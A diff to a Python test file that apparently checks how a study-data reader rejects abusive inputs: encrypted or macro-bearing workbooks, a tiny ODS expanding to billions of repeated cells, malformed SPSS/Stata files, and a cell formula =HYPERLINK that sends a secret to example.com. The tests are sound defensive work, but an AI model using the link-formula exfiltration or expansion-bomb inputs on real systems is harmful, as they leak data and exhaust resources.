@@ -20,6 +20,7 @@ import pyarrow.parquet as pq
 import pytest
 from conftest import FILES, write_study
 from openpyxl import load_workbook
+from test_formats import cell, ods, row, table
 from test_workbook import SHEET, change, save, sheet_xml
 
 import evaltools as ev
@@ -174,15 +175,57 @@ def external_links(folder):
 @abuse
 def formula_without_value(folder):
     path, read = workbook(folder)
-    save(path, [[1, 2], ["x", f'=HYPERLINK("http://example.com/{SECRET}")']])
+    head = FILES[PEOPLE].splitlines()[0].split(";")
+    save(path, [head, ["x", f'=HYPERLINK("http://example.com/{SECRET}")']])
     assert read()[0].startswith("raw/T1/people.xlsx:2:B: the formula has no stored value")
 
 
+def as_bytes(folder: Path, ending: str, content: bytes) -> list[str]:
+    """What is said of people whose file has this ending and these bytes."""
+    edits = {'file = "people*.csv"': f'file = "people*{ending}"'}
+    return problems_of(folder, {PEOPLE: None, f"raw/T1/people{ending}": content}, edits)
+
+
 @abuse
-def encrypted_or_old_workbook(folder):
-    path, read = workbook(folder)
-    path.write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + SECRET.encode() * 100)
-    assert ["an old XLS workbook, or one with a password" in line for line in read()] == [True]
+def encrypted_workbook(folder):
+    content = bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le") + SECRET.encode() * 100
+    for ending in (".xlsx", ".xls"):
+        assert ["the file has a password" in line for line in as_bytes(folder, ending, content)] == [True]
+
+
+@abuse
+def old_workbook(folder):
+    ole = bytes.fromhex("d0cf11e0a1b11ae1")
+    for content, said in (
+        (ole + SECRET.encode() * 100, "not a sound XLS workbook"),
+        (ole + "_VBA_PROJECT_CUR".encode("utf-16-le"), "macros"),
+        (ole + b"x" * 40_000_000, "the file is too large"),
+    ):
+        assert [said in line for line in as_bytes(folder, ".xls", content)] == [True]
+
+
+@abuse
+def spreadsheet_that_repeats(folder):
+    far = cell("x", more='table:number-columns-repeated="16384"')
+    for rows in (row(cell(SECRET), many=4_000_000_000), row(far, many=1_000_000)):
+        content = ods(folder / "x.ods", table(rows)).read_bytes()
+        assert len(content) < 2_000
+        assert ["a cell is too far out" in line for line in as_bytes(folder, ".ods", content)] == [True]
+
+
+@abuse
+def statistics_file_that_ends_its_reader(folder):
+    content = b"$FL2@(#) SPSS DATA FILE" + SECRET.encode() * 30
+    assert ["not a sound SPSS file" in line for line in as_bytes(folder, ".sav", content)] == [True]
+    content = b"<stata_dta><header><release>118</release>" + SECRET.encode() * 30
+    assert ["not a sound Stata file" in line for line in as_bytes(folder, ".dta", content)] == [True]
+
+
+@abuse
+def format_that_is_not_read(folder):
+    for content, named in ((b"[{", "JSON"), (b"<html>", "HTML"), (b"%PDF-1.7", "PDF")):
+        lines = as_bytes(folder, ".xls", content + SECRET.encode())
+        assert [f"the file is {named}, which is not read" in line for line in lines] == [True]
 
 
 @abuse
@@ -291,8 +334,8 @@ def formula_in_text(folder):
     )
     records.write(frame, folder, "results")
     for path in folder.glob("*.csv"):
-        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
-            assert [cell for cell in row if cell.startswith(spreadsheet.FORMULA)] == [], path.name
+        for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
+            assert [cell for cell in line if cell.startswith(spreadsheet.FORMULA)] == [], path.name
     for path in folder.glob("*.xlsx"):
         book = load_workbook(path)
         cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
